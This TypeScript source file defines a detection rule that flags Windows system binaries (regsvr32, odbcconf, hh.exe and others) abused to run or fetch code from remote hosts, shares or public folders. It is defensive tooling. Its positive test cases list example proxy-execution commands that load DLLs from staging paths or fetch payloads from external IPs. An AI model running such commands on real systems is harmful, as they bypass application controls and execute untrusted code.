import { defineRule, type Hit } from './rule.js';
import { capabilityUses, bareTarget } from '../catalog/uses.js';
import { display, hostOf, isPrivateHost, isStagingPath, urlsIn } from './match.js';
import type { Category } from '../types.js';

const PROXY_CAPS = new Set(['exec-or-shell', 'load-library', 'download']);
/** Script and library files that system binaries are abused to run. */
const PAYLOAD_EXT = /\.(sct|hta|js|jse|vbs|vbe|wsf|wsh|dll|cpl|inf|xsl|xml|csproj|ps1|bat|cmd|lnk|scr|ocx|exe|com|msi)$/i;

/** Scriptlets and HTML applications that binary loaders are tricked into running. */
const SCRIPT_PAYLOAD = /\.(sct|hta|wsc|xsl)$/i;

function remote(t: string): string | undefined {
  const u = urlsIn(t)[0];
  if (u) { const h = hostOf(u); return h && !isPrivateHost(h) ? u : undefined; }
  if (/^\\\\[^\\]+\\/.test(t)) return t; // UNC path to another machine
  if (/^(javascript|vbscript|mshtml):/i.test(t)) return t;
  return undefined;
}

export const rule = defineRule({
  id: 'lolbin_proxy',
  category: 'defense_evasion',
  severity: 'critical',
  technique: 'T1218',
  variable: true,
  title: 'A system binary (per the catalog of living-off-the-land binaries) is used to run, load or fetch code from the network, a share or a staging folder',
  check(ctx) {
    const hits: Hit[] = [];
    for (const inv of ctx.invocations) {
      // System binaries, and any program whose job is not fetching (a security tool's CLI, a system utility) but can be made to download.
      const entry = ctx.catalog.programs.find((p) => p.names.includes(inv.program) && (p.kind === 'lolbin' || ((p.kind === 'security' || p.kind === 'system' || p.kind === 'file' || p.kind === 'text') && p.capabilities.download !== undefined)));
      if (!entry) continue;
      const technique = entry.sources.find((s) => s.startsWith('attack:'))?.slice(7) ?? 'T1218';
      let hit: Hit | undefined;
      for (const use of capabilityUses(inv, ctx, ctx.catalog)) {
        if (!PROXY_CAPS.has(use.cap)) continue;
        const category: Category = use.cap === 'download' ? 'remote_fetch' : 'defense_evasion';
        for (const raw of use.targets) {
          const t = bareTarget(raw);
          const r = remote(t);
          if (r) { hit = { span: inv.span, category, severity: 'critical', technique: use.cap === 'download' ? 'T1105' : technique, explanation: `${display(inv, 60)} makes the system tool ${inv.program} ${use.cap === 'download' ? 'download' : 'run or load'} code from ${r.slice(0, 60)}` }; break; }
          if (use.cap !== 'download' && SCRIPT_PAYLOAD.test(t)) { hit = { span: inv.span, severity: 'critical', technique, explanation: `${display(inv, 60)} makes the system tool ${inv.program} run the script ${t.slice(0, 60)}, a way around script controls` }; break; }
          if (use.cap !== 'download' && isStagingPath(t) && PAYLOAD_EXT.test(t)) { hit = { span: inv.span, severity: 'critical', technique, explanation: `${display(inv, 60)} makes the system tool ${inv.program} run or load ${t.slice(0, 60)} from a temporary or public folder` }; break; }
        }
        if (!hit && use.cap !== 'download') {
          // `odbcconf /a {REGSVR C:\Users\Public\x.dll}`: the payload may sit in any argument.
          const p = inv.args.map((x) => x.replace(/[{}]/g, '')).find((x) => isStagingPath(x) && PAYLOAD_EXT.test(x));
          if (p) hit = { span: inv.span, severity: 'critical', technique, explanation: `${display(inv, 60)} makes the system tool ${inv.program} run or load ${p.slice(0, 60)} from a temporary or public folder` };
        }
        if (hit) break;
        if (entry.use === 'rare' && use.cap !== 'download') { hit = { span: inv.span, severity: 'high', technique, explanation: `${display(inv, 60)} uses ${inv.program}, a system tool that attackers use to run code past application allow-lists; everyday work rarely needs it` }; }
      }
      if (hit) hits.push(hit);
    }
    return hits;
  },
  cases: {
    positive: [
      ['cmd', 'hh.exe http://203.0.113.5/page.chm'],
      ['cmd', 'extrac32 /Y /C \\\\198.51.100.2\\share\\a.exe C:\\Users\\Public\\a.exe'],
      ['cmd', 'regsvr32 /s C:\\Users\\Public\\x.dll'],
      ['cmd', 'odbcconf /a {REGSVR C:\\ProgramData\\a.dll}'],
      ['cmd', 'installutil /logfile= /LogToConsole=false /U C:\\Users\\Public\\t.dll'],
    ],
    negative: [['cmd', 'msiexec /i C:\\installers\\tool.msi /qn'], ['cmd', 'control appwiz.cpl'], ['cmd', 'expand app.cab -F:* C:\\app'], ['cmd', 'msbuild MyApp.sln /p:Configuration=Release']],
  },
});
